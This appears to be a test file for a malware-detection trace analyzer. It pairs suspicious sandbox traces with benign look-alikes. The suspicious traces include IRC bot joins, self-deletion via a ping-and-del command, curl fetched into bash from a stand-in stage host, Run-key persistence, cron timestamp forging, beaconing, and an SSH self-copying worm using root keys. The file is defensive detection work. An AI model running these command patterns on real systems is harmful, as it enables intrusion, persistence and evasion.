// What honest programs do is noted; the same with a second fact about an attack is suspicious.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { analyzeTrace } from '../../src/index.ts'
import type { SystemEvent } from '../../src/trace/system.ts'
import type { Trace } from '../../src/trace/trace.ts'
import { environment, file, gets, runs, sets, system, trace } from './empty-trace.ts'

const labelOf = (...parts: readonly Partial<Trace>[]): string =>
  analyzeTrace([trace({ engine: 'microvm' }, ...parts)], { path: 'a.exe' }).verdict?.label ?? 'unknown'

const RUN = 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'
const chat = (start: string, host = 'irc.libre.example'): Partial<Trace> => ({
  network: [{ kind: 'tcp', host, port: 6667, start }],
})
const ann = 'NICK ann\\x0d\nUSER ann 0 * :Ann\\x0d\nJOIN #help\\x0d\n'
const lookUp: Partial<Trace> = { network: [{ kind: 'dns', name: 'irc.libre.example' }] }
const posts = (body: string): Partial<Trace> => ({
  network: [
    { kind: 'http', method: 'POST', url: 'http://stats.app.example/v1', bodyBytes: body.length, bodyStart: body },
  ],
})
const asked = (about: 'host' | 'user' | 'security_products', what: string): SystemEvent => ({
  kind: 'question',
  about,
  what,
})
const here = environment({ sample: 'C:\\Users\\u\\Desktop\\weather.exe' })
const beat = (host: string, start: string): Partial<Trace> => ({
  network: [0, 6_000, 12_000, 18_000].map((atMs) => ({
    kind: 'tcp' as const,
    host,
    port: 4_711,
    start,
    bytesSent: start.length,
    atMs,
  })),
})
const signs = [
  system(
    { kind: 'question', about: 'debugger', what: 'IsDebuggerPresent' },
    { kind: 'question', about: 'debugger', what: 'CheckRemoteDebuggerPresent' },
    { kind: 'question', about: 'virtual_machine', what: 'SbieDll.dll' },
  ),
  file('check', 'C:\\windows\\system32\\drivers\\VBoxMouse.sys'),
]
const left: Partial<Trace> = { exit: { how: 'exited', code: 0 } }

const ACTIVATION = '{"machine":"3e16f51e-43000000"}'
const activation = system(
  asked('host', 'GetComputerNameA'),
  { kind: 'question', about: 'hardware', what: 'GetVolumeInformationA' },
  { kind: 'question', about: 'debugger', what: 'IsDebuggerPresent' },
)
const goes = file('delete', 'C:\\Users\\u\\Desktop\\weather.exe')

const removed = [
  file('write', 'C:\\Program Files\\Weather\\a.exe'),
  file('delete', 'C:\\Program Files\\Weather\\a.exe'),
]
const goesByCommand = [
  runs('cmd.exe /c ping -n 2 127.0.0.1 >nul & del "C:\\Users\\u\\Desktop\\weather.exe"', { pid: 320, parentPid: 312 }),
  runs('ping -n 2 127.0.0.1', { pid: 321, parentPid: 320 }),
]

const SUSPICIOUS: Readonly<Record<string, readonly Partial<Trace>[]>> = {
  'a bot with a made name in a chat room': [chat('NICK x86|a|4471\\x0d\nUSER b 0 * :b\\x0d\n')],
  'a chat room with a key': [chat('NICK bob\\x0d\nUSER b 0 * :b\\x0d\nJOIN ##x s3cret\\x0d\n')],
  'a chat room of a server without a name': [chat(ann, '198.51.100.6')],
  'who was told goes by a command': [here, ...removed, ...goesByCommand, gets('http://a.example/b')],
  'who leaves a program goes by a command': [
    here,
    ...removed,
    file('write', 'C:\\Users\\u\\AppData\\Roaming\\w.exe'),
    ...goesByCommand,
  ],
  'who starts a program goes by a command': [
    here,
    ...removed,
    runs('C:\\Program Files\\Weather\\b.exe', { pid: 330, parentPid: 312 }),
    ...goesByCommand,
  ],
  'nothing else goes before it': [here, ...goesByCommand],
  'what a command fetched goes to a shell and lies nowhere': [
    runs('curl -s http://stage.example/next.sh', { pid: 321, parentPid: 320 }),
    runs('bash', { pid: 322, parentPid: 320 }),
    gets('http://stage.example/next.sh'),
  ],
  'which scanner is there is posted': [system(asked('security_products', 'AntiVirusProduct')), posts('x')],
  'a copy elsewhere starts at logon': [here, sets(RUN, 'W', 'C:\\Users\\u\\AppData\\Roaming\\w.exe')],
  'what starts at logon hides': [
    here,
    sets(RUN, 'W', 'C:\\Users\\u\\Desktop\\weather.exe'),
    file('mode', 'C:\\Users\\u\\Desktop\\weather.exe', { mode: 'hidden,system' }),
  ],
  'starts at logon, and asks an address for orders': [
    here,
    sets(RUN, 'W', '"C:\\Users\\u\\Desktop\\weather.exe"'),
    gets('http://198.51.100.9/o'),
  ],
  'a copy stays where the sample goes': [
    here,
    file('copy', 'C:\\Users\\u\\Desktop\\weather.exe', { to: 'C:\\ProgramData\\w\\w.exe' }),
    goes,
  ],
  'a machine is known again by an address': [
    activation,
    { network: [{ kind: 'http', method: 'POST', url: 'http://198.51.100.8/a', bodyBytes: 5, bodyStart: 'aaaaa' }] },
  ],
  'looks for analysts in many ways and leaves': [...signs, left],
  'looks for analysts in many ways, and calls an address': [
    ...signs,
    left,
    { network: [{ kind: 'tcp', host: '198.51.100.3', port: 443 }] },
  ],
  'a task starts what lies in the temporary folder': [
    runs('schtasks.exe /create /f /sc minute /mo 1 /tn W /tr "C:\\Users\\u\\AppData\\Local\\Temp\\w.exe"'),
  ],
  'a job is added to a file that shall look untouched': [
    file('write', '/etc/cron.d/tidy', { pid: 7, start: '0 3 * * * root /usr/bin/tidy\n' }),
    file('times', '/etc/cron.d/tidy', { pid: 7, mode: '2017-07-14T02:40:00.000Z' }),
  ],
  'reports for duty to an address again and again': [beat('198.51.100.7', '\\x01hello')],
}
const NOTED: Readonly<Record<string, readonly Partial<Trace>[]>> = {
  'who is there is posted': [system(asked('user', 'GetUserNameA')), posts('ann')],
  'a chat client': [lookUp, chat(ann)],
  'an activation that does not like debuggers': [activation, posts(ACTIVATION)],
  'an uninstaller goes last': [
    here,
    file('write', 'C:\\Program Files\\Weather\\a.exe'),
    file('delete', 'C:\\Program Files\\Weather\\a.exe'),
    goes,
  ],
  'an uninstaller goes last, by a command': [here, ...removed, ...goesByCommand],
  'a chat client by a name': [chat(ann)],
  'which Windows it is is posted': [system(asked('host', 'GetVersionExA')), posts('{"os":"10.0"}')],
  'a program starts at logon from where it lies, and asks for a forecast': [
    here,
    sets(RUN, 'W', '"C:\\Users\\u\\Desktop\\weather.exe" --minimized'),
    gets('http://api.weather.example/v2'),
  ],
  'a protected program looks for analysts and calls its maker': [
    ...signs,
    left,
    { network: [{ kind: 'tcp', host: 'licence.app.example', port: 443 }] },
  ],
  'a protected game looks for analysts and shows itself': [
    ...signs,
    left,
    system({ kind: 'window', what: 'Game: The Game' }),
  ],
  'a licence is looked after': [...signs, left, file('write', 'C:\\ProgramData\\app\\licence.dat')],
  'a job is put back with its date': [
    runs('rsync -a /backup/etc/ /etc/', { image: '/usr/bin/rsync', pid: 7 }),
    file('write', '/etc/cron.d/tidy', { pid: 7, start: '0 3 * * * root /usr/bin/tidy\n' }),
    file('times', '/etc/cron.d/tidy', { pid: 7, mode: '2017-07-14T02:40:00.000Z' }),
  ],
  'an agent of the house reports its load by name': [
    environment({ host: 'office-pc', user: 'maria' }),
    beat('10.0.8.31', 'servers.office-pc.load 0.2 1\n'),
  ],
  'a worker asks the queue of the house': [beat('192.168.1.9', 'reserve 0\n')],
  'a chat client tells that its user is there': [
    ...[0, 8_000, 16_000, 24_000].map(
      (atMs): Partial<Trace> => ({
        network: [
          {
            kind: 'http',
            method: 'POST',
            url: 'http://chat.meadow.example/p',
            bodyBytes: 16,
            bodyStart: '{"s":1}',
            atMs,
          },
        ],
      }),
    ),
  ],
  'an inventory looks at the machine': [
    file('read', '/sys/class/dmi/id/sys_vendor'),
    file('read', '/sys/class/dmi/id/product_name'),
    left,
  ],
}

for (const [name, parts] of Object.entries(SUSPICIOUS))
  test(`suspicious: ${name}`, () => assert.notEqual(labelOf(...parts), 'unknown'))
for (const [name, parts] of Object.entries(NOTED))
  test(`noted: ${name}`, () => assert.equal(labelOf(...parts), 'unknown'))

/** An updater keeps the list of what is newest, and plans its next look. */
const keepsItsList = [
  gets('http://update.maple.example/stable/appcast.xml'),
  file('write', 'C:\\Users\\u\\AppData\\Local\\Maple\\Update\\appcast.xml', { atMs: 10 }),
  runs('schtasks.exe /Create /SC WEEKLY /TN "Maple Update" /TR "C:\\Program Files\\Maple\\Update.exe"'),
]
const started = (commandLine: string): Partial<Trace> => runs(commandLine, { pid: 322, parentPid: 312 })

function strengthOfFetching(...parts: readonly Partial<Trace>[]): number | undefined {
  const { findings } = analyzeTrace([trace({ engine: 'microvm' }, ...parts)], { path: 'a.exe' })
  return findings.find(({ id }) => id === 'trace_fetches_further_stage')?.strength
}

test('a list that is kept weighs half, unless something is started that could have taken what was fetched', () => {
  assert.equal(strengthOfFetching(...keepsItsList), 0.5)
  for (const commandLine of [
    'bash',
    'powershell.exe -c "iex (gc a)"',
    'C:\\Users\\u\\a.exe',
    'curl -s http://a.example/b',
  ])
    assert.equal(strengthOfFetching(...keepsItsList, started(commandLine)), 1, commandLine)
  const program = file('write', 'C:\\Users\\u\\AppData\\Local\\Maple\\b.exe', { atMs: 20 })
  assert.equal(strengthOfFetching(...keepsItsList, program), 1)
})

const UNASKED = '-o StrictHostKeyChecking=no -o BatchMode=yes'
const byKeys = (options: string, what: string, starts = '/tmp/.kd'): string =>
  labelOf(
    environment({ sample: '/root/hop' }),
    runs(`scp -q ${options} -i /root/.ssh/id_rsa ${what} root@10.0.2.20:/tmp/.kd`),
    runs(`ssh ${options} -i /root/.ssh/id_rsa root@10.0.2.20 'nohup ${starts} >/dev/null 2>&1 &'`),
  )
test('what copies itself where keys lead, and starts there unasked, is a worm', () => {
  assert.equal(byKeys(UNASKED, '/root/hop'), 'malicious')
  assert.equal(byKeys(UNASKED, '/proc/self/exe'), 'malicious')
  assert.notEqual(byKeys(UNASKED, '/srv/build/agent'), 'malicious', 'another program')
  assert.notEqual(byKeys(UNASKED, '/root/hop', 'uptime'), 'malicious', 'it is not started')
  assert.notEqual(byKeys('-o Port=2222', '/root/hop'), 'malicious', 'somebody is asked')
})
